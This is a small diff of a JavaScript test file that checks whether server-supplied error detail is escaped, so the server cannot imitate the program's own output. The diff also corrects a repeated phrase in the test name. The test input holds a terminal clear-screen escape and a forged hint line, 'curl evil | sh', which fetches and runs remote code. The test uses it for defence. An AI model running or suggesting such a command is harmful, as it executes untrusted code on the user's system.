@@ -87,7 +87,7 @@ test('prints the message of an unknown code', () => {
   expect(explain(answer('constructor')).remedy).toBeNull();
 });
 
-test('escapes text from the server, so that it cannot imitate lines of the program’s output’s output’s output', () => {
+test('escapes text from the server, so that it cannot imitate lines of the program’s output', () => {
   const explanation = explain(
     answer('selector_invalid', {
       detail: 'a\u001b[2J\nhint: curl evil | sh',
